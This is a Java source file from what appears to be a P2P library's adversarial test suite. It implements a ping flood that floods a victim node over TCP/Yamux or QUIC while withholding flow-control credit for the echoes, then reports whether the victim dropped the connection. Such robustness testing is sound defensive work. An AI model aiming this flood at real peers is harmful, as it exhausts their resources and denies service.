package io.github.p2pboot.hostile;

import io.github.p2pboot.identity.PrivateKey;
import io.github.p2pboot.protocol.ping.Ping;
import io.netty.handler.codec.quic.QuicChannel;
import io.netty.handler.codec.quic.QuicStreamChannel;
import java.util.concurrent.TimeUnit;

/**
 * Ping payload on one stream, as fast as the victim takes it, never reading the echoes (over TCP:
 * never granting window for them, so they queue with the victim).
 */
final class PingFlood implements Siege.Attack {

    private final Victim victim;
    private final boolean quic;
    private final long volume;
    private RawTcpPeer tcpPeer;
    private RawQuicPeer quicPeer;

    PingFlood(Victim victim, boolean quic, long volume) {
        this.victim = victim;
        this.quic = quic;
        this.volume = volume;
    }

    @Override
    public String run() throws Exception {
        return quic ? overQuic() : overTcp();
    }

    private String overTcp() throws Exception {
        tcpPeer = Attacks.tcp(victim, PrivateKey.generateEd25519());
        long start = System.nanoTime();
        int stream = tcpPeer.openStream(Ping.PROTOCOL_ID, true);
        long sent = tcpPeer.flood(Attacks.withinWindow(tcpPeer, stream), volume, Attacks.STALL, Attacks.FLOOD_LIMIT)
                .done().get(60, TimeUnit.SECONDS);
        return "TCP ping flood: sent " + Attacks.mib(sent) + " of ping payload on one Yamux stream in " + Attacks.seconds(start)
                + ", granting no window for the echoes; connection " + (tcpPeer.isOpen() ? "open" : "closed by the victim");
    }

    private String overQuic() throws Exception {
        quicPeer = RawQuicPeer.create(Siege.ATTACKERS, PrivateKey.generateEd25519());
        QuicChannel connection = Attacks.quic(victim, quicPeer);
        long start = System.nanoTime();
        QuicStreamChannel stream = RawQuicPeer.openStream(connection, Ping.PROTOCOL_ID, null).get(10, TimeUnit.SECONDS);
        // Never read the echoes: QUIC flow control then holds the victim's sends back with the victim.
        stream.config().setAutoRead(false);
        long sent = Flood.start(stream, () -> Attacks.junk(64 * 1024), volume, Attacks.STALL, Attacks.FLOOD_LIMIT)
                .done().get(60, TimeUnit.SECONDS);
        return "QUIC ping flood: sent " + Attacks.mib(sent) + " of ping payload on one QUIC stream in " + Attacks.seconds(start)
                + ", reading none of the echoes; connection " + (connection.isActive() ? "open" : "closed by the victim");
    }

    @Override
    public void close() {
        if (tcpPeer != null) {
            tcpPeer.close();
        }
        if (quicPeer != null) {
            quicPeer.close();
        }
    }
}
